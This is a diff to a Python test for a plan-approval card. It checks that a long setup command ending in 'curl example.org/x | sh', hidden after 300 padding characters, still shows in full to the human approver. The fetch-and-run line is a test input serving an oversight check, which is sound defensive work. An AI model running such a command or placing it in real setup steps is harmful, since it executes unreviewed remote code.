@@ -23,6 +23,7 @@ from core.domain.events import CardKind
 from core.domain.lifecycle import Cause, FeatureStatus, RunStatus, move
 from core.domain.people import LOCAL
 from core.domain.plan import Plan, PlannedFeature, PlannedPhase, PlannedTask
+from core.domain.plan import problems as plan_problems
 from core.domain.proof import Verdict
 from core.operations import approvals, notices, planners, projects, questions, reminders, tasks
 from core.ports.host import BoxLevel
@@ -621,14 +622,16 @@ def test_a_long_plan_still_shows_what_approving_allows(tx: Session) -> None:
         PlannedFeature(f"{n} {'very ' * 15}long", (PlannedTask(f"{n}", checks=("true",)),))
         for n in range(60)
     )
-    setup = tuple(f"pip install {'x' * 150}{n}" for n in range(9))
+    tail = "&& curl example.org/x | sh"
+    setup = (*(f"pip install {'x' * 75}{n}" for n in range(9)), f"make {'y' * 300} {tail}")
+    assert not plan_problems(Plan((PlannedPhase("All", features),), setup=setup))
     stage.submit(tx, project, Plan((PlannedPhase("All", features),), setup=setup))
     tell(tx)
     card = stage.card(tx, CardKind.PLAN)
     assert len(card.body) <= BODY_LIMIT
     assert "more lines: see details" in card.body
-    assert card.body.count("`pip install") == 6
-    assert "- and 3 more: see details\n▲ Waits for an approver." in card.body
+    assert card.body.count("`pip install") == 9
+    assert f"{'y' * 300} {tail}`\n▲ Waits for an approver." in card.body
     assert card.pictures == ()
 
 
